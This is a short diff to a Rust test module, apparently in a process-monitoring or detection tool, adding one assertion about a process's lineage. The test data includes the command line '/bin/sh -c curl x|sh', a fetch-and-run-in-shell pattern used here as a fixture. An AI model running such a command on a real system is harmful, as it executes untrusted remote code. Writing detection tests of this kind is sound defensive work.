@@ -297,6 +297,7 @@ mod tests {
         };
         assert_eq!(&*p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c curl x|sh");
+        assert!(p.lineage.exec && !p.lineage.is_startup());
     }
 
     #[test]
